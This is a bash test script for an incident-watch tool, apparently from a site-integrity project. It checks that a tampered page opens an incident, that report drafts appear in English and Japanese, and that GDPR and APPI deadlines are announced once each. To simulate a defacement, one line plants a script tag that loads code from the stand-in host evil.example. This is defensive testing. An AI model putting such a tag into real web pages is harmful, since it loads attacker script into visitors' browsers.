#!/bin/bash
# 105-incident-watch.t - a finding opens an incident by itself; a draft of the report is there at once, in two languages;
# deadlines are told before they pass, each once.
. "$(dirname "$0")/lib.sh"
use alerts
need jq
make_site "$tmp/src"
make_repository
make_standby
start_sink http && hooks=$got hook="http://127.0.0.1:$port/hook"
# shellcheck disable=SC2120 # once it has some
watch() { us incident watch --journal "$state/journal" --state "$state" --alert "$hook" --once "$@"; }
shown() { us incident show "$1" --json --state "$state" && json "$2"; }
deadlines() { us journal show --state "$state" --json --kind incident_deadline && wc -l <"$tmp/stdout"; }

status_is 2 'a journal must be named' us incident watch --once --state "$state"
status_is 0 'nothing was found: nothing is opened' watch
us incident list --json --state "$state"
json_is 'no incident' .incidents '[]'

# ---------------------------------------------------------------- a finding
us pull "$dest" --repo "$repo" --pub "$pub"
printf '<script src="http://evil.example/x.js"></script>' >"$dest/docs/help.html"
sleep 1
us verify "$dest" --pub "$pub"
is 'the planted page is found' "$status" 1
server=$(us journal show --state "$state" --json --kind difference; jq -r .server "$tmp/stdout" | head -n 1)
printf '192.0.2.1 - - [%s] "GET /docs/help.html HTTP/1.1" 200 48 "-" "agent"\n' "$(date -u '+%d/%b/%Y:%H:%M:%S +0000')" \
        >"$tmp/access.log"
started=$SECONDS
status_is 1 'the finding opens an incident' watch --log "$server=$tmp/access.log"
ok 'and the draft is there within a minute' test $((SECONDS - started)) -lt 60
is 'it has the page, which is bad still' "$(shown 1 '.intervals[] | "\(.path) \(.first_good)"')" '/docs/help.html null'
is 'who was exposed was looked for' "$(shown 1 '.exposure.sources | length')" 1
draft=$state/incident/draft-1
for language in en ja; do ok "a draft in $language" test -s "$draft.$language.md"; done
is 'for its owner alone' "$(stat -c %a "$draft.en.md")" 600
like 'the draft names the page' "$(cat "$draft.en.md")" 'docs/help\.html'
unlike 'and is no link to the intruder' "$(cat "$draft.en.md")" 'http://evil\.example'
isnt 'the other one is in another language' "$(cat "$draft.ja.md")" "$(cat "$draft.en.md")"
ok 'the operator is told' wait_for 10 has_received "$hooks" 1
like 'what to do' "$(cat "$hooks"/0001.http)" 'incident aware 1'
status_is 0 'the same finding is not news' watch

# ---------------------------------------------------------------- it ends, and there is another
sleep 1
us pull "$dest" --repo "$repo" --pub "$pub"
rm "$draft.en.md"
status_is 1 'that it is healed belongs to it' watch
is 'and stands there' "$(shown 1 '[.intervals[] | .first_good != null] | all')" true
ok 'the draft is made anew' test -s "$draft.en.md"
printf 'new' >"$dest/planted.html"
us verify "$dest" --pub "$pub"
status_is 1 'another file' watch
is 'comes to the open incident' "$(shown 1 '[.intervals[].path] | unique | join(" ")')" '/docs/help.html /planted.html'
us incident list --json --state "$state"
json_is 'there is one' '.incidents | length' 1

# ---------------------------------------------------------------- deadlines
status_is 0 'nobody is aware: no clock runs' watch
is 'and none is told' "$(deadlines)" 0
us incident aware 1 --at "$(date -u -d '50 hours ago' +%Y-%m-%dT%H:%M:%SZ)" --state "$state"
watch
is '22 hours before the authority must be told' "$(deadlines)" 1
json_is 'it is told' .deadline done_gdpr
watch
is 'once' "$(deadlines)" 1
us incident aware 1 --at "$(date -u -d '68 hours ago' +%Y-%m-%dT%H:%M:%SZ)" --state "$state"
watch
is 'again when it is near' "$(deadlines)" 2
us incident set 1 'done_gdpr=sent to the authority' --state "$state"
us incident aware 1 --at "$(date -u -d '80 hours ago' +%Y-%m-%dT%H:%M:%SZ)" --state "$state"
watch
is 'one that is kept is told no more, the next one is' \
        "$(us journal show --state "$state" --json --kind incident_deadline && jq -r .deadline "$tmp/stdout" | tr '\n' ' ')" \
        'done_gdpr done_gdpr done_appi_preliminary '

# ---------------------------------------------------------------- as a role
"$UNDERSTUDY" incident watch --journal "$state/journal" --state "$state" >"$tmp/role" 2>&1 &
role=$!
cleanup_process "$role"
wait_for 10 grep -q ready "$tmp/role"
printf 'again' >"$dest/second.html"
us verify "$dest" --pub "$pub"
has_second() { [[ $(shown 1 '[.intervals[].path] | index("/second.html") != null') == true ]]; }
ok 'a running one finds it' wait_for 20 has_second
kill "$role"
wait "$role"
is 'and ends when it is told to' "$?" 0
done_testing
